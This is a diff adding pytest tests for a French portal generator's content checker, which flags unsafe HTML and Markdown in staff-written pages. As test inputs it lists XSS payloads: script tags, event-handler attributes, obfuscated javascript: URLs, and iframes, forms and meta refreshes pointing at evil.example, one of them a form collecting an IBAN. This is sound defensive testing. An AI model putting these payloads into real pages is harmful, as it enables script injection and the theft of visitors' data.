@@ -1,0 +1,325 @@
+"""Pages of content/ and the files around them, as `portal check` reports them to comms staff."""
+
+from __future__ import annotations
+
+import os
+
+import pytest
+
+from generator.diagnostics import Diagnostic
+from generator.project import check_project
+from generator.sanitize import render_markdown, sanitize_html
+from tests.conftest import NOW, REPO, Project
+
+PAGE = "content/page.md"
+INTRO = "# Informations\n\nTexte d'introduction.\n\n"
+"""Three lines before the line under test: a reported line 5 is the line written."""
+
+
+def content_problems(project: Project) -> list[Diagnostic]:
+    return [d for d in check_project(project.root, NOW).diagnostics
+            if not d.path.startswith("directory/")]
+
+
+def codes(project: Project) -> list[tuple[str, int, str]]:
+    return [(d.path, d.line, d.code) for d in content_problems(project)]
+
+
+# One line of Markdown per way of getting a script, a request or a redirect into a page.
+HOSTILE_LINES = {
+    "script": ("<script>window.__pwned = 1</script>", "content.html-element", "<script>"),
+    "img-onerror": ('<img src="logo.png" onerror="window.__pwned = 1">',
+                    "content.html-attribute", "« onerror »"),
+    "svg-onload": ("<svg onload=\"window.__pwned = 1\"><circle r='1'/></svg>",
+                   "content.html-element", "<svg>"),
+    "math": ("<math><mtext>x</mtext></math>", "content.html-element", "<math>"),
+    "iframe": ('<iframe src="https://evil.example/"></iframe>', "content.html-element",
+               "<iframe>"),
+    "iframe-srcdoc": ('<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
+                      "content.html-element", "<iframe>"),
+    "object": ('<object data="x.swf"></object>', "content.html-element", "<object>"),
+    "embed": ('<embed src="x.swf">', "content.html-element", "<embed>"),
+    "form": ('<form action="https://evil.example/"><input name="iban"></form>',
+             "content.html-element", "<form>"),
+    "formaction": ('<button formaction="javascript:alert(1)">OK</button>',
+                   "content.html-element", "<button>"),
+    "base": ('<base href="https://evil.example/">', "content.html-element", "<base>"),
+    "link": ('<link rel="stylesheet" href="https://evil.example/x.css">',
+             "content.html-element", "<link>"),
+    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+                     "content.html-element", "<meta>"),
+    "style-element": ("<style>body { display: none }</style>", "content.html-element",
+                      "<style>"),
+    "style-attribute": ('<p style="background: url(https://evil.example/t.gif)">x</p>',
+                        "content.html-attribute", "« style »"),
+    "markdown-javascript": ("[cliquez](javascript:alert(1))", "content.unsafe-url",
+                            "« javascript:alert(1) »"),
+    "mixed-case": ("[cliquez](JaVaScRiPt:alert(1))", "content.unsafe-url", "JaVaScRiPt:"),
+    "vbscript": ("[cliquez](vbscript:msgbox(1))", "content.unsafe-url", "vbscript:"),
+    "entities": ('<a href="jav&#x61;script:alert(1)">x</a>', "content.unsafe-url",
+                 "« javascript:alert(1) »"),
+    "tab-in-scheme": ('<a href="java&#x09;script:alert(1)">x</a>', "content.unsafe-url",
+                      "java\\tscript:"),
+    "newline-in-scheme": ('<a href="java&#10;script:alert(1)">x</a>', "content.unsafe-url",
+                          "java\\nscript:"),
+    "protocol-relative": ('<a href="//evil.example/">x</a>', "content.unsafe-url",
+                          "//evil.example/"),
+    "backslashes": ('<a href="/\\evil.example/">x</a>', "content.unsafe-url", "evil.example"),
+    "data-image": ("![logo](data:image/svg+xml;base64,PHN2Zz4=)", "content.unsafe-url",
+                   "une image"),
+    "third-party-image": ("![pixel](https://tracker.example/p.gif)", "content.unsafe-url",
+                          "une image"),
+    "data-link": ("[x](data:text/html;base64,PHNjcmlwdD4=)", "content.unsafe-url", "data:"),
+    "autolink": ("Voir <javascript:alert(1)>", "content.html-element", "<javascript:"),
+    "attr-list-handler": ("Texte\n{: onclick=\"alert(1)\" }", "content.html-attribute",
+                          "« onclick »"),
+    "attr-list-href": ('[annuaire](annuaire.md){: href="javascript:alert(1)" }',
+                       "content.unsafe-url", "javascript:alert(1)"),
+    "attr-list-theme-id": ("Texte\n{: #__config }", "content.html-attribute", "« id »"),
+    "md-in-html": ('<div markdown="1" onmouseover="alert(1)">**x**</div>',
+                   "content.html-attribute", "« onmouseover »"),
+    "comment": ("<!-- <script>alert(1)</script> -->", "content.html-comment", "commentaire"),
+}
+
+
+@pytest.mark.parametrize("kind", sorted(HOSTILE_LINES))
+def test_each_way_to_slip_in_html_is_named_at_its_line(project: Project, kind: str) -> None:
+    """Element, attribute or address: one diagnostic, at the line where it was written."""
+    line, code, fragment = HOSTILE_LINES[kind]
+    project.write(PAGE, INTRO + line + "\n\nSuite du texte.\n")
+    found = [d for d in content_problems(project) if d.code == code]
+    written = 5 + line.count("\n")  # an attribute list applies from the line below
+    assert found and found[0].path == PAGE and found[0].line == written, codes(project)
+    assert fragment in found[0].message + found[0].hint
+    assert found[0].is_error == (code != "content.html-comment")
+
+
+def test_reference_links_and_admonitions_are_checked_too(project: Project) -> None:
+    """A reference definition and an admonition's indented HTML are named at their own line."""
+    project.write(PAGE, INTRO + "Voir [le site][ref].\n\n!!! warning \"Attention\"\n"
+                  "    <script>alert(1)</script>\n\n[ref]: javascript:alert(2)\n")
+    assert codes(project) == [(PAGE, 8, "content.html-element"),
+                              (PAGE, 10, "content.unsafe-url")]
+
+
+def test_messages_are_french_lines_with_file_line_and_hint(project: Project, capsys) -> None:  # type: ignore[no-untyped-def]
+    """`portal check` prints every problem as `path:line: erreur : message — conseil`, exit 1."""
+    project.write(PAGE, INTRO + "<script>alert(1)</script>\n\n[x](javascript:alert(1))\n")
+    assert project.portal("check") == 1
+    out = capsys.readouterr()
+    text = out.out + out.err
+    assert ("content/page.md:5: erreur : balise <script> refusée : elle ne sera pas publiée — "
+            "écrivez en Markdown") in text
+    assert ("content/page.md:7: erreur : adresse « javascript:alert(1) » refusée dans un lien — "
+            "un lien mène à une page du site") in text
+    assert "Traceback" not in text
+
+
+MARKDOWN_STAFF_USE = """\
+# Titre {: #titre-principal }
+
+!!! warning "Attention aux escroqueries"
+    Ne donnez **jamais** vos coordonnées bancaires.
+
+Lien vers l'[annuaire](annuaire.md#lettre-c), le [standard](tel:+33261910000),
+le [service](mailto:accueil@vallee-fictive.example), une [ancre](#horaires),
+un [site officiel](https://www.cybermalveillance.gouv.fr/).
+
+![Plan d'accès](images/plan.png){: .portal-plan width="300" }
+
+[Appeler](tel:15){: .md-button }
+
+| Service | Téléphone |
+|:--------|----------:|
+| Accueil | 02 61 91 00 00 |
+
+## Horaires
+
+```text
+lundi-vendredi 08:30-17:00
+```
+
+<div class="portal-note" markdown>
+*Mis à jour* le <time datetime="2026-11-23">23 novembre</time>.
+</div>
+"""
+
+
+def test_what_comms_staff_write_is_kept_as_is() -> None:
+    """Admonitions, classes, tables, page links, tel:/mailto:, site images, ids: untouched."""
+    html = render_markdown(MARKDOWN_STAFF_USE)
+    assert sanitize_html(html) == html.replace(" />", ">")  # only XHTML's void slash goes
+    for kept in ('href="annuaire.html#lettre-c"', 'href="tel:+33261910000"', 'id="horaires"',
+                 'href="mailto:accueil@vallee-fictive.example"', 'class="admonition warning"',
+                 'src="images/plan.png"', 'class="md-button"', 'style="text-align: right;"',
+                 'id="titre-principal"', '<time datetime="2026-11-23">'):
+        assert kept in html, kept
+
+
+def test_the_sample_pages_pass_the_check() -> None:
+    """The repository's own content/ and communiqués raise nothing."""
+    checked = check_project(REPO, NOW)
+    assert [d.format() for d in checked.diagnostics if d.path.startswith("content/")] == []
+
+
+def test_a_page_not_in_utf8_is_an_error_not_a_traceback(project: Project, capsys) -> None:  # type: ignore[no-untyped-def]
+    """Latin-1 bytes: `check` names the line, `build` stops with the same message."""
+    (project.root / PAGE).write_bytes(INTRO.encode() + "Hôpital\n".encode("latin-1"))
+    assert codes(project) == [(PAGE, 5, "content.encoding")]
+    assert project.portal("build") == 1
+    out = capsys.readouterr()
+    assert "content/page.md:5: erreur : caractère illisible" in out.out + out.err
+    assert "Traceback" not in out.out + out.err and not project.site.exists()
+
+
+def test_a_huge_page_is_refused(project: Project) -> None:
+    """A page past the size bound is one error, not a slow build."""
+    project.write(PAGE, INTRO + "texte " * 40_000)
+    assert codes(project) == [(PAGE, 1, "content.too-large")]
+
+
+def test_forbidden_characters_are_named_each_at_its_line(project: Project) -> None:
+    """A reversed number (U+202E) and a zero-width space, each at its line, with its name."""
+    project.write(PAGE, INTRO + "Appelez le \u202e01 01 19 16 20\n\nser\u200bvice\n")
+    found = content_problems(project)
+    assert [(d.line, d.code) for d in found] == [(5, "content.forbidden-character"),
+                                                 (7, "content.forbidden-character")]
+    assert "U+202E" in found[0].message and "U+200B" in found[1].message
+
+
+def test_a_communique_body_is_checked_at_the_file_s_own_lines(project: Project) -> None:
+    """The body of a communiqué: lines counted from the top of the file, front matter included."""
+    project.write("content/communiques/2026-11-20-alerte.md", """\
+        ---
+        titre: Alerte
+        date: 2026-11-20 10:00
+        ---
+
+
+        Premier paragraphe.
+
+        <img src="x.png" onerror="alert(1)"> et \u202e
+        """)
+    assert codes(project) == [
+        ("content/communiques/2026-11-20-alerte.md", 9, "content.forbidden-character"),
+        ("content/communiques/2026-11-20-alerte.md", 9, "content.html-attribute")]
+    assert check_project(project.root, NOW).communiques == []
+
+
+def test_front_matter_of_a_plain_page_is_not_rendered(project: Project) -> None:
+    """MkDocs reads a page's `---` block as data: only what follows is checked as Markdown."""
+    project.write(PAGE, "---\ntitle: <b>Infos</b>\n---\n\n<script>x</script>\n")
+    assert codes(project) == [(PAGE, 5, "content.html-element")]
+
+
+def test_pages_with_other_markdown_suffixes_are_checked(project: Project) -> None:
+    """MkDocs publishes `.MD` and `.markdown` as pages: they are checked like `.md`."""
+    project.write("content/autre.MD", "<script>alert(1)</script>\n")
+    project.write("content/encore.markdown", "<iframe src=x></iframe>\n")
+    assert codes(project) == [("content/autre.MD", 1, "content.html-element"),
+                              ("content/encore.markdown", 1, "content.html-element")]
+
+
+# --- Files on disk ---------------------------------------------------------------------------
+
+
+def test_links_leaving_the_project_are_refused(project: Project, tmp_path_factory) -> None:  # type: ignore[no-untyped-def]
+    """A linked file or folder outside the project is an error naming the link; build stops."""
+    outside = tmp_path_factory.mktemp("ailleurs")
+    (outside / "secret.md").write_text("Mot de passe : hunter2\n")
+    (outside / "secret.yml").write_text("etablissement: {}\n")
+    (project.root / "content" / "secret.md").symlink_to(outside / "secret.md")
+    (project.root / "content" / "dossier").symlink_to(outside, target_is_directory=True)
+    (project.root / "directory" / "etablissements" / "lien.yml").symlink_to(
+        outside / "secret.yml")
+    found = check_project(project.root, NOW).diagnostics
+    assert sorted((d.path, d.code) for d in found if d.is_error) == [
+        ("content/dossier", "file.outside-link"), ("content/secret.md", "file.outside-link"),
+        ("directory/etablissements/lien.yml", "file.outside-link")]
+    assert str(outside) in found[0].message or "hors du projet" in found[0].message
+    assert project.portal("build") == 1
+    assert not project.site.exists()
+
+
+def test_links_inside_the_project_stay(project: Project) -> None:
+    """A page or folder linked from elsewhere in the project is checked and published."""
+    project.write("notes/horaires.md", "# Horaires\n\nDu lundi au vendredi.\n")
+    (project.root / "content" / "horaires.md").symlink_to(project.root / "notes" / "horaires.md")
+    (project.root / "content" / "notes").symlink_to(project.root / "notes",
+                                                    target_is_directory=True)
+    assert codes(project) == []
+    assert project.portal("build") == 0
+    assert "Du lundi au vendredi." in (project.site / "horaires.html").read_text("utf-8")
+
+
+def test_a_link_loop_is_walked_once(project: Project) -> None:
+    """A folder linked to its own parent neither hangs the check nor reports twice."""
+    os.symlink("..", project.root / "content" / "boucle", target_is_directory=True)
+    project.write(PAGE, "<script>x</script>\n")
+    assert codes(project) == [(PAGE, 1, "content.html-element")]
+
+
+@pytest.mark.parametrize(("name", "hint"), [
+    ("extra.YML", "renommez-le en « extra.yml »"),
+    ("etablissements/bourg.yml.txt", "renommez-le en « bourg.yml »"),
+    ("services/radiologie.YAML", "renommez-le en « radiologie.yaml »"),
+    ("notes.docx", "seuls les fichiers .yml sont lus"),
+])
+def test_directory_files_that_are_not_yaml_are_named(project: Project, name: str,
+                                                     hint: str) -> None:
+    """Not read, but not silently: a warning with the name to use."""
+    project.write(f"directory/{name}", "nom: x\n")
+    found = [d for d in check_project(project.root, NOW).diagnostics if d.code == "file.ignored"]
+    assert [(d.path, d.is_error) for d in found] == [(f"directory/{name}", False)]
+    assert hint in found[0].hint
+
+
+def test_hidden_files_and_editor_backups_are_left_alone(project: Project) -> None:
+    """`.groupe.yml.swp`, `groupe.yml~`, `#groupe.yml#`, `.DS_Store`: no warning, not read."""
+    for name in (".groupe.yml.swp", "groupe.yml~", "#groupe.yml#", ".DS_Store", "x.yml.bak"):
+        project.write(f"directory/{name}", "nom: [\n")
+    assert check_project(project.root, NOW).diagnostics == []
+
+
+@pytest.mark.parametrize(("name", "hint"), [
+    ("2026-11-20-alerte.MD", "« 2026-11-20-alerte.md »"),
+    ("2026-11-20-alerte.markdown", "« 2026-11-20-alerte.md »"),
+    ("2026-11-20-alerte.md.txt", "« 2026-11-20-alerte.md »"),
+    ("2026-11-20-alerte.txt", "« 2026-11-20-alerte.md »"),
+    ("2026-11-20-alerte.docx", "traitement de texte"),
+    ("archives/2026-11-01-ancien.md", "directement dans content/communiques/"),
+])
+def test_communique_look_alikes_are_named(project: Project, name: str, hint: str) -> None:
+    """A file that looks like a communiqué but would not be published gets a warning."""
+    project.write(f"content/communiques/{name}", "---\ntitre: x\n---\n")
+    assert codes(project) == [(f"content/communiques/{name}", 1, "communique.ignored-file")]
+    assert hint in content_problems(project)[0].hint
+
+
+def test_images_beside_communiques_are_fine(project: Project) -> None:
+    """A picture or a PDF linked from a communiqué is not a look-alike."""
+    (project.root / "content" / "communiques").mkdir()
+    (project.root / "content" / "communiques" / "plan.png").write_bytes(b"\x89PNG\r\n")
+    (project.root / "content" / "communiques" / "note.pdf").write_bytes(b"%PDF-1.4")
+    assert codes(project) == []
+
+
+def test_a_pasted_web_page_gives_a_bounded_list(project: Project) -> None:
+    """Thousands of handlers or invisible spaces: 20 of each named, then one line for the rest."""
+    project.write(PAGE, "<b onclick=x>a</b>\n" * 3000 + "\u200b" * 3000)
+    found = codes(project)
+    assert len(found) == 42 and found.count((PAGE, 1, "content.too-many-problems")) == 2
+    assert (PAGE, 20, "content.html-attribute") in found
+    assert any("2980 autres" in d.message for d in content_problems(project))
+
+
+def test_check_reports_every_content_problem_at_once(project: Project) -> None:
+    """Encoding, HTML, characters and stray files in several files: all listed in one run."""
+    (project.root / "content" / "a.md").write_bytes(b"caf\xe9\n")
+    project.write("content/b.md", "<script>x</script>\n\n\u200b\n")
+    project.write("content/communiques/2026-11-20-x.txt", "x")
+    assert codes(project) == [("content/a.md", 1, "content.encoding"),
+                              ("content/b.md", 1, "content.html-element"),
+                              ("content/b.md", 3, "content.forbidden-character"),
+                              ("content/communiques/2026-11-20-x.txt", 1,
+                               "communique.ignored-file")]
